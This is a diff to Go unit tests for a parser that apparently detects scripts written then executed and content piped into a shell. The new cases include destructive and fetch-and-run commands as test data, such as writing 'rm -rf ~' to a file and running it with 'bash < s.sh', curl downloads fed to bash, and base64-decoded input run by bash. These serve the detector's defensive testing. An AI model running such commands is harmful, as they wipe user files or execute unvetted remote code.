@@ -41,6 +41,11 @@ func TestParseWrittenThenRun(t *testing.T) {
 		{`curl -o x.sh https://x.example && bash y.sh`, nil, false, false},
 		{`cat a.sh > b.sh; bash b.sh`, nil, false, false},
 		{`echo 'echo hi' > s.sh; chmod +x s.sh; ./s.sh`, nil, false, false},
+		// A shell reading the file on its standard input runs it too.
+		{`echo 'rm -rf ~' > s.sh && bash < s.sh`, nil, false, true},
+		{`echo 'rm -rf ~' > s.sh && sh -s x < s.sh`, nil, false, true},
+		{`curl -o x.sh https://x.example && bash < x.sh`, []string{"curl|bash"}, false, false},
+		{`bash < <(base64 -d x)`, []string{"base64|bash"}, true, false},
 	}
 	for _, tt := range tests {
 		f, err := Parse(tt.command, opts)
@@ -99,6 +104,7 @@ func TestParseScriptFile(t *testing.T) {
 		{`./s.sh`, false, true, []string{"s.sh"}},
 		{`./bang.sh`, false, true, []string{"bang.sh"}},
 		{`source s.sh`, false, true, []string{"s.sh"}},
+		{`bash < s.sh`, false, true, []string{"s.sh"}},
 		{`. ./s.sh`, false, true, []string{"s.sh"}},
 		{`bash ` + repo + `/s.sh`, false, true, []string{"s.sh"}},
 		{`chmod +x s.sh && ./s.sh`, false, true, []string{"s.sh"}},
